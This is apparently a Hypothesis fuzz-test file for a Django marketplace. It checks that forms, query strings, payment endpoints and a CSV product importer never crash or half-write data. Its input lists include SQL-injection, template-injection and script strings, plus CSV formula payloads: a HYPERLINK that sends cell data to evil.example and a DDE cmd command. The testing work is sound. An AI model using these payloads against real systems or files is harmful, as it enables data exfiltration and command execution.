"""Fuzzing every form and query string for server errors, and the CSV importer for half-writes.

Generated input (search syntax, quotes, NUL, 10,000 characters, mixed scripts, odd numbers,
postcodes and ID numbers) goes to every shopper and merchant form and query string. Whatever it
is, the answer is never a 500 (the test client re-raises a view's exception, so a traceback fails
the test), and a rejected form writes no row. Random, truncated and hostile CSV files go to the
importer: it either refuses the file and writes nothing, or imports what is valid, with every
product it writes having a variant and its summary matching what the database gained.

Each example runs in a savepoint rolled back afterwards. How many inputs were tried is printed
at the end of the module (in pytest's output, captured or not).
"""
from __future__ import annotations

import csv
import io
import os
from collections import Counter

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from heartland.catalog.importers.shopify import FileRefused, import_shopify_csv
from heartland.catalog.importers.shopify_format import COLUMNS
from heartland.catalog.models import ImportJob, ImportRowError, Product, ProductImage, Variant
from heartland.checkout.models import Address, BuyerIdentity, CartLine
from heartland.inventory.models import StockLevel
from heartland.merchants.models import Merchant
from heartland.orders.models import Order
from heartland.payments.tests.conftest import payments_settings  # noqa: F401  (autouse: sandbox on, keys)

from .world import w_fixture, world_fixture  # noqa: F401  (the fixtures `world` and `w`)

pytestmark = pytest.mark.django_db

TRIED: Counter[str] = Counter()
# HEARTLAND_FUZZ_SCALE=10 tries ten times as many inputs, new ones each run (a hunt). The suite's
# own run (no scale set) tries the same inputs every time, so CI answers the same way twice.
SCALE = float(os.environ.get("HEARTLAND_FUZZ_SCALE", "1"))
HUNTING = "HEARTLAND_FUZZ_SCALE" in os.environ


def _examples(n: int) -> int:
    return max(1, int(n * SCALE))


FUZZ = settings(max_examples=_examples(50), deadline=None, derandomize=not HUNTING,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])


@pytest.fixture(scope="module", autouse=True)
def _report_inputs_tried(request):
    yield
    total = sum(TRIED.values())
    lines = [f"fuzz: {total} inputs tried"] + [f"  {name}: {n}" for name, n in sorted(TRIED.items())]
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:
        return
    with capture.global_and_fixture_disabled():
        reporter.write_line("")
        for line in lines:
            reporter.write_line(line)


# --- strategies ---------------------------------------------------------------------------------
TRICKY = [
    '"', "'", '""', "*", "NEAR(", "NEAR(a b, 2)", " AND ", " OR ", " NOT ", "^", "-", ":", "(", ")", "\x00", "%",
    "_", "\\", "{", "}", "[", "]", ";", "--", "/*", "*/", "\u200b", "\ufeff", "\u202e", "\U00020000", "\U0002a6e0",
    "蜂蜜", "牛肉干", "臺灣", "هل", "русский", "🍯", "👩‍🌾", "e\u0301", " ", "\t", "\n", "\r\n", "<script>", "&amp;",
    "title_en:", "%00", "'; DROP TABLE catalog_product; --", "{{ 7*7 }}", "${7*7}", "=HYPERLINK(\"http://x\")",
    "\x1b[31m", "\x7f", "\ud7ff", "\ue000", "\uffff", "ﷺ", "ǅ", "ß", "İ", "０１２", "١٢٣",
]
NUMBERISH = [
    "0", "-0", "1", "-1", "0.001", "1e3", "1E-7", "1e309", "-1e309", "NaN", "nan", "Infinity", "-inf", "1_000",
    "9" * 30, "9" * 5000, "0x10", "1,5", "1.5.5", "１２３", "١٢٣", " 12 ", "+5", "12abc", "", "99", "100", "2147483648",
    "9223372036854775808", "18446744073709551616", "0.000000000000000000001", "10000001",
]


def _repeat(char: str, n: int) -> str:
    return (char * n)[:n]


text_in = st.one_of(
    st.text(max_size=80),
    st.lists(st.sampled_from(TRICKY), max_size=12).map("".join),
    st.tuples(st.lists(st.sampled_from(TRICKY), max_size=4).map("".join), st.text(max_size=30)).map("".join),
    st.builds(_repeat, st.sampled_from(["a", "蜂", "\"", "*", "\x00", "é", "🍯", " ", "x "]),
              st.integers(1000, 10_000)),
    st.sampled_from(NUMBERISH),
)
number_in = st.one_of(
    st.sampled_from(NUMBERISH), st.integers(-10**30, 10**30).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str), st.floats().map(repr), text_in,
)


def _tried(name: str) -> None:
    TRIED[name] += 1


def _no_server_error(response, what: str) -> None:
    assert response.status_code < 500, f"{what}: {response.status_code}"


def _in_savepoint(fn):
    """Run fn() and undo everything it wrote."""
    sid = transaction.savepoint()
    try:
        return fn()
    finally:
        transaction.savepoint_rollback(sid)


def _signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- shopper query strings ------------------------------------------------------------------------
@FUZZ
@given(q=text_in, sort=text_in, page=number_in, lo=number_in, hi=number_in, category=text_in, state=text_in,
       merchant=text_in, in_stock=text_in, htmx=st.booleans())
def test_search_and_listing_query_strings(w, q, sort, page, lo, hi, category, state, merchant, in_stock, htmx):
    client = Client()
    params = {"q": q, "sort": sort, "page": page, "min": lo, "max": hi, "category": category, "state": state,
              "merchant": merchant, "in_stock": in_stock}
    headers = {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "results"} if htmx else {}
    for url in (reverse("storefront:search"), reverse("storefront:category", kwargs={"slug": "honey"}),
                "/en" + reverse("storefront:search")):
        _tried("search and listings")
        _no_server_error(_in_savepoint(lambda: client.get(url, params, **headers)), f"{url} {params!r}")


@FUZZ
@given(q=text_in, htmx=st.booleans())
def test_autocomplete(w, q, htmx):
    _tried("autocomplete")
    response = Client().get(reverse("storefront:suggest"), {"q": q}, **({"HTTP_HX_REQUEST": "true"} if htmx else {}))
    _no_server_error(response, repr(q))


@FUZZ
@given(variant=number_in, handle=text_in, htmx=st.booleans())
def test_product_page(w, variant, handle, htmx):
    client = Client()
    headers = {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "price-box"} if htmx else {}
    url = reverse("storefront:product", kwargs={"merchant": "a-farm", "handle": w.product_a.handle})
    _tried("product page")
    _no_server_error(client.get(url, {"variant": variant}, **headers), repr(variant))
    _tried("product page")
    safe = handle.replace("/", "").replace("\x00", "") or "x"
    _no_server_error(client.get(f"/p/a-farm/{safe}/"), repr(handle))


@FUZZ
@given(market=text_in, next_=text_in, language=text_in)
def test_market_and_language_switch(w, market, next_, language):
    client = Client()
    _tried("market and language")
    _no_server_error(client.post(reverse("storefront:set_market"), {"market": market, "next": next_}), repr(market))
    _tried("market and language")
    _no_server_error(client.post(reverse("set_language"), {"language": language, "next": next_}), repr(language))


# --- cart and checkout ----------------------------------------------------------------------------
@FUZZ
@given(variant=number_in, quantity=number_in, line_quantity=number_in)
def test_cart_forms(w, variant, quantity, line_quantity):
    client = _signed_in(w.users["shopper_a"])

    def go():
        before = list(CartLine.objects.order_by("pk").values_list("variant_id", "quantity"))
        _tried("cart")
        r = client.post(reverse("checkout:add"), {"variant": variant, "quantity": quantity})
        _no_server_error(r, f"add {variant!r} × {quantity!r}")
        after = list(CartLine.objects.order_by("pk").values_list("variant_id", "quantity"))
        if after != before:  # only a real variant in a quantity from 1 to 99 is added
            assert int(variant) in set(Variant.objects.values_list("pk", flat=True)), (variant, quantity)
            assert all(1 <= q <= 99 for _, q in after)
        _tried("cart")
        r = client.post(reverse("checkout:update_line", kwargs={"line_id": w.cart_line_a.pk}),
                        {"quantity": line_quantity})
        _no_server_error(r, f"update line {line_quantity!r}")
        assert all(1 <= q <= 99 for q in CartLine.objects.values_list("quantity", flat=True))

    _in_savepoint(go)


consignee_in = st.fixed_dictionaries({
    "name": st.one_of(st.just("司马相如"), text_in), "phone": st.one_of(st.just("13812345678"), number_in, text_in),
    "region": st.one_of(st.just("四川省"), text_in), "city": st.one_of(st.just("成都市"), text_in),
    "district": st.one_of(st.just("武侯区"), text_in), "street": st.one_of(st.just("人民南路1号"), text_in),
    "postcode": st.one_of(st.just("610041"), number_in, text_in),
    "real_name": st.one_of(st.just("司马相如"), text_in),
    "id_number": st.one_of(st.just("11010519491231002X"), st.just("11010519491231002x"),
                           st.text("0123456789Xx", min_size=15, max_size=18), number_in, text_in),
    "service_level": st.one_of(st.sampled_from(["standard", "economy", "express"]), text_in),
    "key": st.one_of(st.just("fuzz-key"), text_in), "agree": st.sampled_from(["on", "", "off"]),
    "address": st.one_of(st.just(""), number_in),
})


@FUZZ
@given(data=consignee_in)
def test_checkout_form(w, data):
    client = _signed_in(w.users["shopper_a"])

    def go():
        before = (Order.objects.count(), Address.objects.count(), BuyerIdentity.objects.count())
        _tried("checkout")
        r = client.post(reverse("checkout:checkout"), data)
        _no_server_error(r, repr(data))
        if r.status_code == 200:  # the form is shown again: it was refused, nothing written
            assert (Order.objects.count(), Address.objects.count(), BuyerIdentity.objects.count()) == before, data

    _in_savepoint(go)


# --- the merchant portal ------------------------------------------------------------------------------
@FUZZ
@given(q=text_in, status=text_in, page=number_in, htmx=st.booleans())
def test_portal_lists(w, q, status, page, htmx):
    client = _signed_in(w.users["owner_a"])
    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
    for url in (reverse("portal:product_list", kwargs={"slug": "a-farm"}),
                reverse("portal:orders", kwargs={"slug": "a-farm"}),
                reverse("portal:import_detail", kwargs={"slug": "a-farm", "pk": w.job_a.pk})):
        _tried("portal lists")
        _no_server_error(client.get(url, {"q": q, "status": status, "page": page}, **headers), f"{url} {q!r}")


application_in = st.fixed_dictionaries({
    k: text_in for k in ("legal_name", "trading_name", "ein", "kind", "address_line1", "city", "state", "zip_code",
                         "contact_name", "contact_email", "contact_phone", "story", "story_zh_hans")})


@FUZZ
@given(data=application_in)
def test_application_forms(w, data):
    new = _signed_in(w.users["shopper_b"])
    member = _signed_in(w.users["owner_a"])

    def go():
        before = Merchant.objects.count()
        _tried("merchant application")
        r = new.post(reverse("portal:apply"), data)
        _no_server_error(r, repr(data))
        if r.status_code == 200:
            assert Merchant.objects.count() == before
        mine = Merchant.objects.filter(pk=w.merchant_a.pk).values().get()
        _tried("merchant application")
        r = member.post(reverse("portal:application", kwargs={"slug": "a-farm"}), {**data, "submit": "1"})
        _no_server_error(r, repr(data))
        if r.status_code == 200:
            assert Merchant.objects.filter(pk=w.merchant_a.pk).values().get() == mine

    _in_savepoint(go)


product_in = st.fixed_dictionaries({
    "title_en": text_in, "title_zh_hans": text_in, "handle": text_in, "description_en": text_in,
    "description_zh_hans": text_in, "category": st.one_of(st.just(""), number_in), "kind": text_in,
    "tags": text_in, "status": st.one_of(st.sampled_from(["active", "draft", "archived"]), text_in),
    "origin_state": text_in, "option1_name": text_in,
})


def _catalogue_rows():
    return (list(Product.objects.order_by("pk").values()), list(Variant.objects.order_by("pk").values()),
            list(StockLevel.objects.order_by("pk").values_list("pk", "on_hand", "reserved")),
            ProductImage.objects.count())


@FUZZ
@given(data=product_in)
def test_product_form(w, data):
    client = _signed_in(w.users["owner_a"])

    def go():
        before = _catalogue_rows()
        for url in (reverse("portal:product_new", kwargs={"slug": "a-farm"}),
                    reverse("portal:product_edit", kwargs={"slug": "a-farm", "pk": w.product_a.pk})):
            _tried("product form")
            r = client.post(url, data)
            _no_server_error(r, repr(data))
            if r.status_code == 200:
                assert _catalogue_rows() == before, data

    _in_savepoint(go)


variant_in = st.fixed_dictionaries({
    "option1": text_in, "sku": text_in, "price_usd": number_in, "compare_at_price_usd": number_in,
    "grams": number_in, "weight_unit": text_in, "barcode": text_in, "hs_code": st.one_of(number_in, text_in),
    "country_of_origin": text_in, "tax_category": text_in, "requires_shipping": text_in, "unit_content": number_in,
    "unit_content_uom": text_in, "abv": number_in, "stock": number_in,
})


@FUZZ
@given(data=variant_in)
def test_variant_form(w, data):
    client = _signed_in(w.users["owner_a"])
    data = {**data, f"wh_{w.warehouse_a.pk}": data.pop("stock")}

    def go():
        before = _catalogue_rows()
        for kwargs in ({"slug": "a-farm", "pk": w.product_a.pk},
                       {"slug": "a-farm", "pk": w.product_a.pk, "variant_pk": w.variant_a.pk}):
            _tried("variant form")
            r = client.post(reverse("portal:variant_edit" if "variant_pk" in kwargs else "portal:variant_new",
                                    kwargs=kwargs), data)
            _no_server_error(r, repr(data))
            if r.status_code == 200:
                assert _catalogue_rows() == before, data

    _in_savepoint(go)


@FUZZ
@given(alt=text_in, content=st.one_of(st.binary(max_size=300), st.sampled_from([
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, b"GIF89a", b"\xff\xd8\xff\xe0" + b"\x00" * 20, b"RIFF\x00\x00\x00\x00WEBP"])),
       name=text_in)
def test_image_upload(w, alt, content, name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = _signed_in(w.users["owner_a"])
    filename = (name.replace("\x00", "").replace("/", "") or "x")[:100]

    def go():
        before = ProductImage.objects.count()
        _tried("image upload")
        r = client.post(reverse("portal:image_upload", kwargs={"slug": "a-farm", "pk": w.product_a.pk}),
                        {"alt_text": alt, "image": SimpleUploadedFile(filename, content)})
        _no_server_error(r, repr(content[:40]))
        assert ProductImage.objects.count() == before  # none of these is a real picture

    _in_savepoint(go)


@FUZZ
@given(values=st.dictionaries(st.sampled_from(list(COLUMNS)), text_in, max_size=8))
def test_import_fix_row_form(w, values):
    client = _signed_in(w.users["owner_a"])
    row = {"handle": "x", "title": "X", "price": "abc", **{k: "" for k in values}}

    def go():
        ImportRowError.objects.filter(pk=w.row_error_a.pk).update(row=row)
        before = _catalogue_rows()
        _tried("import fix-row form")
        r = client.post(reverse("portal:import_fix_row", kwargs={"slug": "a-farm", "pk": w.job_a.pk,
                                                                 "error_pk": w.row_error_a.pk}), values)
        _no_server_error(r, repr(values))
        if r.status_code == 200:
            assert _catalogue_rows() == before, values

    _in_savepoint(go)


# --- the CSV importer ---------------------------------------------------------------------------------
HEADER = ["Handle", "Title", "Body (HTML)", "Vendor", "Tags", "Published", "Option1 Name", "Option1 Value",
          "Variant SKU", "Variant Grams", "Variant Inventory Qty", "Variant Price", "Variant Compare At Price",
          "Variant Barcode", "Image Src", "Status", "Variant HS Code"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1", "\r=1"]
cell_in = st.one_of(st.sampled_from(FORMULAS), text_in, number_in,
                    st.builds(_repeat, st.sampled_from(["x", "蜂", '"', ","]), st.integers(10_000, 200_000)))


def _csv_bytes(rows: list[list[str]], header=HEADER) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8", "surrogatepass")


row_in = st.lists(st.one_of(st.sampled_from(["honey-jar", "honey-jar", "jerky", ""]), cell_in), min_size=len(HEADER),
                  max_size=len(HEADER))
file_in = st.one_of(
    st.binary(max_size=2000),                                               # random bytes
    st.lists(row_in, min_size=1, max_size=6).map(_csv_bytes),               # hostile cells
    st.tuples(st.lists(row_in, min_size=1, max_size=4).map(_csv_bytes), st.integers(0, 4000)).map(
        lambda t: t[0][: t[1]]),                                            # truncated anywhere
    st.tuples(st.lists(row_in, min_size=1, max_size=3).map(_csv_bytes), st.binary(min_size=1, max_size=50)).map(
        lambda t: t[0] + t[1]),                                             # garbage appended
    st.lists(st.lists(cell_in, max_size=6), min_size=1, max_size=4).map(
        lambda rows: _csv_bytes(rows[1:], header=rows[0])),                 # any header at all
)


def _merchant_catalogue(merchant):
    return (Product.objects.filter(merchant=merchant).count(), Variant.objects.filter(product__merchant=merchant).count())


@settings(FUZZ, max_examples=_examples(200))
@given(content=file_in)
def test_importer_refuses_whole_or_writes_only_whole_products(w, content):
    merchant = w.merchant_b

    def go():
        products, variants = _merchant_catalogue(merchant)
        errors = []
        _tried("CSV importer")
        try:
            summary = import_shopify_csv(merchant=merchant, binary=io.BytesIO(content), on_errors=errors.extend)
        except FileRefused:
            assert _merchant_catalogue(merchant) == (products, variants), "a refused file wrote something"
            return
        assert _merchant_catalogue(merchant) == (products + summary.products_created,
                                                 variants + summary.variants_created), summary
        assert not Product.objects.filter(merchant=merchant, variants__isnull=True).exists(), \
            "a product was written without any variant"
        assert summary.rows_rejected == len(errors)

    _in_savepoint(go)


@settings(FUZZ, max_examples=_examples(40))
@given(content=file_in)
def test_import_upload_through_the_portal(w, content, django_capture_on_commit_callbacks):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = _signed_in(w.users["owner_a"])

    def go():
        before = _merchant_catalogue(w.merchant_a)
        _tried("CSV upload (portal)")
        with django_capture_on_commit_callbacks(execute=True):
            r = client.post(reverse("portal:imports", kwargs={"slug": "a-farm"}),
                            {"file": SimpleUploadedFile("fuzz.csv", content, content_type="text/csv")})
        _no_server_error(r, repr(content[:60]))
        if r.status_code == 302:
            job = ImportJob.objects.order_by("-pk").first()
            assert job.status in ("done", "refused"), (job.status, job.message)
            if job.status == "refused":
                assert _merchant_catalogue(w.merchant_a) == before
            page = client.get(r["Location"])
            _no_server_error(page, "import report")
        else:
            assert _merchant_catalogue(w.merchant_a) == before

    _in_savepoint(go)


# --- path segments, payment endpoints, sign-in and the admin ------------------------------------------
segment_in = text_in.map(lambda s: s.replace("/", "").replace("\x00", "")[:300] or "x")


@FUZZ
@given(segment=segment_in)
def test_object_addresses(w, segment):
    from urllib.parse import quote

    shopper = _signed_in(w.users["shopper_a"])
    owner = _signed_in(w.users["owner_a"])
    s = quote(segment, safe="")
    for client, method, url in (
            (shopper, "get", f"/orders/{s}/"), (shopper, "post", f"/orders/{s}/cancel/"),
            (shopper, "post", f"/orders/{s}/pay/"), (shopper, "get", f"/pay/return/{s}/"),
            (shopper, "get", f"/pay/sandbox/cashier/{s}/"), (shopper, "get", f"/p/a-farm/{s}/"),
            (owner, "get", f"/portal/m/a-farm/orders/{s}/"), (owner, "post", f"/portal/m/a-farm/orders/{s}/")):
        _tried("object addresses")
        _no_server_error(_in_savepoint(lambda: getattr(client, method)(url)), f"{method} {url}")


params_in = st.dictionaries(st.one_of(st.sampled_from([
    "out_trade_no", "trade_status", "total_amount", "currency", "notify_id", "notify_time", "sign", "sign_type",
    "app_id", "method", "biz_content", "charset", "timestamp", "version", "trade_no", "payer_cert_no", "return_url",
    "notify_url", "action", "payer_name", "payer_id_number"]), text_in), st.one_of(text_in, number_in), max_size=10)


@FUZZ
@given(params=params_in)
def test_payment_endpoints(w, params):
    client = Client()

    def go():
        before = (Payment_status(w), Order.objects.filter(pk=w.order_a.pk).values_list("status").get())
        for method, url in (("post", reverse("payments:notify", kwargs={"provider": "sandbox"})),
                            ("get", reverse("payments:return", kwargs={"reference": w.payment_a.reference})),
                            ("get", reverse("sandbox_payments:gateway")), ("post", reverse("sandbox_payments:gateway")),
                            ("post", reverse("sandbox_payments:cashier", kwargs={"token": w.trade_a.cashier_token}))):
            _tried("payment endpoints")
            _no_server_error(getattr(client, method)(url, params), f"{method} {url} {params!r}")
        if params.get("action") != "decline":  # unsigned, or no valid payer: nothing moves
            assert (Payment_status(w), Order.objects.filter(pk=w.order_a.pk).values_list("status").get()) == before

    _in_savepoint(go)


def Payment_status(w):  # noqa: N802
    from heartland.payments.models import Payment

    return Payment.objects.filter(pk=w.payment_a.pk).values_list("status").get()


@FUZZ
@given(email=text_in, password=text_in, password2=text_in)
def test_sign_in_and_sign_up_forms(w, email, password, password2):
    from heartland.accounts.models import User

    def go():
        users = User.objects.count()
        for url, data in ((reverse("account_login"), {"login": email, "password": password}),
                          (reverse("account_signup"), {"email": email, "password1": password, "password2": password2}),
                          (reverse("account_reset_password"), {"email": email})):
            _tried("sign-in forms")
            r = Client().post(url, data)
            _no_server_error(r, f"{url} {data!r}")
            if url == reverse("account_signup") and r.status_code == 200:
                assert User.objects.count() == users, data

    _in_savepoint(go)


PASTED_PARAGRAPH = "x " * 1000


@pytest.mark.parametrize("model", [
    "catalog/product", "catalog/category", "accounts/user", "merchants/merchant", "payments/payment",
    "payments/refund", "sandbox_payments/sandboxtrade", "inventory/stocklevel", "auth/group",
    "account/emailaddress", "orders/order", "orders/orderrefund", "search/zeroresultquery",
])
@settings(FUZZ, max_examples=_examples(15))
@given(q=text_in, o=text_in, page=number_in)
@example(q=PASTED_PARAGRAPH, o="", page="1")
def test_admin_changelist_queries(w, model, q, o, page):
    client = _signed_in(w.users["operator"])
    _tried("admin changelists")
    r = client.get(f"/admin/{model}/", {"q": q, "o": o, "p": page})
    _no_server_error(r, f"{model} {q[:40]!r}… {o!r} {page!r}")


@FUZZ
@given(action=st.one_of(st.sampled_from(["accept", "cancel"]), text_in), reason=text_in)
def test_merchant_order_actions(w, action, reason):
    client = _signed_in(w.users["owner_a"])
    url = reverse("portal:order_detail", kwargs={"slug": "a-farm", "number": w.merchant_order_a.number})
    _tried("merchant order actions")
    _no_server_error(_in_savepoint(lambda: client.post(url, {"action": action, "reason": reason})), repr(action))
